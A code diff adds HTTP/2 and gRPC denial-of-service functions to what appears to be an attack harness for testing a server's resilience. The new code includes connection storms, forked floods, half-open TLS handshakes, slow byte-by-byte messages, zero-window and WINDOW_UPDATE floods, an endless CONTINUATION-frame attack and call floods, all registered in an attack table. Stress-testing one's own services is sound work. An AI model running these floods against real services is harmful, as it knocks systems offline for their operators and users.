@@ -7,11 +7,14 @@ from __future__ import annotations
 
 import contextlib
 import itertools
+import os
 import resource
 import socket
+import ssl
 import sys
 import threading
 import time
+from collections import deque
 from collections.abc import Callable, Iterator
 from pathlib import Path
 from typing import Any, Final
@@ -20,12 +23,14 @@ import grpc
 
 from proof.attacks.wire import (
     CONTINUATION,
+    DATA,
     END_HEADERS,
     HEADERS,
     PING,
     PREFACE,
     RST_STREAM,
     SETTINGS,
+    WINDOW_UPDATE,
     connect,
     frame,
     head_of_call,
@@ -137,6 +142,73 @@ def connection_storm(attack: Attack) -> None:
             one.close()
 
 
+def heads_in_a_storm(attack: Attack) -> None:
+    """Connections that are opened and closed as fast as it goes, each with thirty calls without a message."""
+    ready()
+    while True:
+        _heads(attack)
+
+
+def processes(attack: Attack) -> None:
+    """The same, each connection by a process of its own."""
+    ready()
+    while True:
+        child = os.fork()
+        if child == 0:
+            _heads(attack)
+            os._exit(0)
+        os.waitpid(child, 0)
+
+
+def _heads(attack: Attack) -> None:
+    with contextlib.suppress(OSError):
+        one = connect(attack.address, attack.tls)
+        head = head_of_call(PATH + "Stop")
+        calls = b"".join(frame(HEADERS, END_HEADERS, number, head) for number in range(1, 60, 2))
+        one.sendall(PREFACE + frame(SETTINGS, 0, 0) + calls)
+        time.sleep(0.001)
+        one.close()
+
+
+def half_handshakes(attack: Attack) -> None:
+    """Connections in the middle of a handshake of TLS, or of HTTP/2's first words; new ones all the time."""
+    begun = PREFACE[:9]
+    if attack.tls is not None:
+        hello, told = ssl.create_default_context(), ssl.MemoryBIO()
+        half = hello.wrap_bio(ssl.MemoryBIO(), told, server_hostname="localhost")
+        with contextlib.suppress(ssl.SSLWantReadError):
+            half.do_handshake()
+        begun = told.read()
+    sockets: deque[socket.socket] = deque(maxlen=300)
+    ready()
+    while True:
+        with contextlib.suppress(OSError):
+            sockets.append(connect(attack.address))
+            sockets[-1].sendall(begun)
+        time.sleep(0.002)
+
+
+def trickled_messages(attack: Attack) -> None:
+    """Calls whose messages come byte by byte."""
+    head, sockets = head_of_call(PATH + "StartLog"), []
+    calls = b"".join(frame(HEADERS, END_HEADERS, n, head) + frame(DATA, 0, n, b"\0\0\0\xff\0") for n in range(1, 60, 2))
+    for _ in range(50):
+        with contextlib.suppress(OSError):
+            sockets.append(attack.open())
+            sockets[-1].sendall(PREFACE + frame(SETTINGS, 0, 0) + calls)
+    ready()
+    while True:
+        for one, number in itertools.product(sockets, range(1, 60, 2)):
+            with contextlib.suppress(OSError):
+                one.sendall(frame(DATA, 0, number, b"\x0a"))
+        time.sleep(0.01)
+
+
+def attendance(attack: Attack) -> None:
+    """Calls that are never too often, as often as it goes."""
+    _call_flood(attack, "Attend")
+
+
 def _flood(attack: Attack, send: Callable[[socket.socket], None]) -> None:
     """Send on one connection as fast as it takes it; again on a new one where that was cut."""
     is_told = False
@@ -173,17 +245,47 @@ def pings(attack: Attack) -> None:
     _flood(attack, send)
 
 
+def windows(attack: Attack) -> None:
+    """Calls whose answers have no room, and window updates of one byte without an end."""
+    head = head_of_call(PATH + "GetStatus")
+    calls = b"".join(frame(HEADERS, END_HEADERS, n, head) + frame(DATA, 1, n, bytes(5)) for n in range(1, 60, 2))
+    closed = frame(SETTINGS, 0, 0, b"\0\x04" + bytes(4))
+    many = frame(WINDOW_UPDATE, 0, 0, b"\0\0\0\x01") * 100
+
+    def send(one: socket.socket) -> None:
+        one.sendall(closed + calls)
+        while True:
+            one.sendall(many)
+
+    _flood(attack, send)
+
+
+def continuations(attack: Attack) -> None:
+    """A call's head that never ends."""
+    part = frame(CONTINUATION, 0, 1, b"\0\x01a\x01b") * 100
+
+    def send(one: socket.socket) -> None:
+        one.sendall(frame(HEADERS, 0, 1, head_of_call(PATH + "Stop")))
+        while True:
+            one.sendall(part)
+
+    _flood(attack, send)
+
+
 def call_flood(attack: Attack) -> None:
     """Good calls over several connections, as many at once as each takes."""
-    message = operator_pb2.GetStatusRequest().SerializeToString()
+    _call_flood(attack, "GetStatus")
+
+
+def _call_flood(attack: Attack, name: str) -> None:
     channels = [attack.channel(number) for number in range(8)]
 
     def flood(channel: grpc.Channel) -> None:
         room = threading.Semaphore(200)
-        call: Any = channel.unary_unary(PATH + "GetStatus")
+        call: Any = channel.unary_unary(PATH + name)
         while True:
             room.acquire()
-            call.future(message).add_done_callback(lambda _: room.release())
+            call.future(b"").add_done_callback(lambda _: room.release())
 
     for channel in channels:
         threading.Thread(target=flood, args=(channel,), daemon=True).start()
@@ -214,10 +316,17 @@ ATTACKS: Final[dict[str, Callable[[Attack], None]]] = {
     "idle connections": idle_connections,
     "hanging calls": hanging_calls,
     "half headers": half_headers,
+    "half handshakes": half_handshakes,
     "connection storm": connection_storm,
+    "heads in a storm": heads_in_a_storm,
+    "processes": processes,
     "rapid resets": rapid_resets,
     "pings": pings,
+    "windows": windows,
+    "continuations": continuations,
+    "trickled messages": trickled_messages,
     "call flood": call_flood,
+    "attendance": attendance,
     "silent readers": silent_readers,
 }
 
